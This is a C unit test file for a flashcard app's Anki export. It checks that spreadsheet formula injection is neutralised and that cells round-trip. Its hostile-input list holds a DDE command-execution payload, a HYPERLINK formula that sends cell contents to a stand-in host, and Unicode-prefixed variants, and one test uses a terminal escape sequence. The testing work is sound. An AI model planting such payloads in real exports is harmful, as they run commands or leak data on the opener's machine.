/* Cells that a spreadsheet would run: none leaves an export, and all come back. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/mem.h"
#include "base/text.h"
#include "deck/anki/formula.h"
#include "deck/deck.h"

static const char *const HOSTILE[] = {"=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0",
	"=HYPERLINK(\"http://x/?\"&A1)", "\t=1", "\ttext", "\rtext", "\r=1", "\ntext", "\n=1",
	" =1", "  \t -1", "\u00A0=1", "\u3000=1", "\u200B=1", "\uFEFF=1", "\uFF1D1", "\uFF0B1",
	"\uFF0D1", "\uFF201", "'=1", "''=1", "'''-", "' =1", "'\t", "=", "-", "- 첫째\n- 둘째",
	"=1\t=2", "-x\n=2\r\n=3", "\"=1\"", "=\"", "#=1"};
static const char *const HARMLESS[] = {"", "1+1", "a=b", "'", "''", "'quoted'", "' x", "\"-\"",
	"첫째 - 둘째", "#1", " x", "a\t=b", "x\n=1"};
#define COUNT(list) (sizeof(list) / sizeof((list)[0]))

static void set(char **field, const char *text)
{
	free(*field);
	*field = mem_text(text);
}

static void parse(const char *bytes, struct deck *deck)
{
	struct error err = {0};
	if (!deck_parse("notes.md", bytes, strlen(bytes), deck, &err)) {
		fail_msg("%s", err.text);
	}
}

/* A deck whose question has `cell` in every field that holds the user's text. */
static void make_deck(const char *cell, struct deck *deck)
{
	parse("# Topic\n\n1. What is a process? {weight=2}\n\n   It is a program that runs, with a "
	      "memory of its own.\n",
		deck);
	assert_int_equal(deck->question_count, 1);
	struct question *question = &deck->questions[0];
	assert_int_equal(question->answer_count, 1);
	set(&question->text[LANG_EN], cell);
	set(&question->text[LANG_KO], cell);
	set(&question->answers[0].text, cell);
	set(&question->context, cell);
	set(&question->number, cell);
	set(&question->topic, cell);
	for (int part = 0; part < PART_COUNT; part++) {
		set(&question->parts[part], cell);
	}
}

/* The next cell of text in tab separated values, without its quotes. free() it. */
static char *next_cell(const char **at)
{
	struct text cell;
	text_init(&cell, 10000);
	bool quoted = **at == '"';
	const char *p = *at + quoted;
	for (; *p && (quoted || !strchr("\t\r\n", *p)); p++) {
		if (quoted && *p == '"' && p[1] != '"') {
			p++;
			break;
		}
		p += quoted && *p == '"';
		text_add_bytes(&cell, p, 1);
	}
	*at = p + (*p != '\0');
	return text_take(&cell);
}

static void assert_harmless(const char *export)
{
	for (const char *at = export; *at;) {
		char *cell = next_cell(&at);
		const char *seen = cell + strspn(cell, " ");
		if (strchr("=+-@\t\r\n", *seen) && *seen) {
			fail_msg("the cell '%s' leaves in:\n%s", cell, export);
		}
		if (strncmp(seen, "\xEF\xBC", 2) == 0 || strncmp(seen, "\xC2\xA0", 2) == 0 ||
			strncmp(seen, "\xE3\x80\x80", 3) == 0) {
			fail_msg("the cell '%s' leaves in:\n%s", cell, export);
		}
		free(cell);
	}
}

static void same(const char *a, const char *b)
{
	assert_string_equal(a ? a : "", b ? b : "");
}

static void assert_comes_back(const char *cell, bool guarded)
{
	struct deck deck;
	struct deck back;
	struct text out;
	make_deck(cell, &deck);
	text_init(&out, SIZE_MAX / 4);
	deck_write_anki(&deck, NULL, &out);
	assert_harmless(out.bytes);
	assert_int_equal(strstr(out.bytes, "guarded") != NULL, guarded);
	parse(out.bytes, &back);
	bool blank = strspn(cell, " \t\r\n") == strlen(cell);
	assert_int_equal(back.question_count, blank ? 0 : 1);
	if (!blank) {
		const struct question *was = &deck.questions[0];
		const struct question *is = &back.questions[0];
		same(was->text[LANG_KO], is->text[LANG_KO]);
		same(was->text[LANG_EN], is->text[LANG_EN]);
		same(was->context, is->context);
		same(was->number, is->number);
		same(was->topic, is->topic);
		assert_true(was->weight == is->weight);
		assert_int_equal(is->answer_count, 1);
		same(was->answers[0].text, is->answers[0].text);
		for (int part = 0; part < PART_COUNT; part++) {
			same(was->parts[part], is->parts[part]);
		}
	}
	text_finish(&out);
	deck_finish(&back);
	deck_finish(&deck);
}

static void test_formulas_are_guarded_and_come_back(void **state)
{
	(void)state;
	for (size_t i = 0; i < COUNT(HOSTILE); i++) {
		bool guarded = !strchr("\"#", HOSTILE[i][0]);
		assert_int_equal(formula_needs_guard(HOSTILE[i]), guarded);
		assert_comes_back(HOSTILE[i], guarded);
	}
}

static void test_other_cells_stay_as_they_are(void **state)
{
	(void)state;
	for (size_t i = 0; i < COUNT(HARMLESS); i++) {
		assert_false(formula_needs_guard(HARMLESS[i]));
		assert_ptr_equal(formula_unguarded(HARMLESS[i]), HARMLESS[i]);
		assert_comes_back(HARMLESS[i], false);
	}
}

static void test_an_export_without_guards_is_read_as_it_stands(void **state)
{
	(void)state;
	struct deck deck;
	struct deck back;
	struct text out;
	make_deck("'quoted'", &deck);
	text_init(&out, SIZE_MAX / 4);
	deck_write_anki(&deck, NULL, &out);
	for (char *at = out.bytes; (at = strstr(at, "'quoted'")) != NULL;) {
		memcpy(at, "'=SUM(1)", 8); /* as an older version of rehearse wrote it */
	}
	parse(out.bytes, &back);
	assert_string_equal(back.questions[0].text[LANG_EN], "'=SUM(1)");
	assert_string_equal(back.questions[0].context, "'=SUM(1)");
	text_finish(&out);
	deck_finish(&back);
	deck_finish(&deck);
}

static void test_a_title_is_one_cell_of_one_line(void **state)
{
	(void)state;
	struct deck deck;
	struct text out;
	make_deck("x", &deck);
	set(&deck.title, "a\t=1\n=2\x1B]52;");
	text_init(&out, SIZE_MAX / 4);
	deck_write_anki(&deck, NULL, &out);
	assert_harmless(out.bytes);
	assert_null(strchr(out.bytes, '\x1B'));
	text_finish(&out);
	deck_finish(&deck);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_formulas_are_guarded_and_come_back),
		cmocka_unit_test(test_other_cells_stay_as_they_are),
		cmocka_unit_test(test_an_export_without_guards_is_read_as_it_stands),
		cmocka_unit_test(test_a_title_is_one_cell_of_one_line),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
